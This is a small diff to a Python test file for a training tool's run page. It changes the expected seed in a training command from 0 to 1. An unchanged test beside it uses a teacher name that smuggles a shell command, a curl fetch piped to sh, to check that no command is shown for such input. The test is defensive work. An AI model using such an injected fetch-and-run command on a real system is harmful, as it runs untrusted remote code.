@@ -231,7 +231,7 @@ def test_links_and_devices_in_a_study_are_not_followed(name: str, studied: Path,
 
 def test_a_command_is_shown_only_where_it_trains_the_same_and_nothing_else() -> None:
     standard = config.preset("standard")
-    assert run_page._command(standard) == "kravets train --preset standard --seed 0"
+    assert run_page._command(standard) == "kravets train --preset standard --seed 1"
     taught = config.Distillation(teachers=("'; curl x | sh; '",))
     assert run_page._command(standard.model_copy(update={"distillation": taught})) is None
 
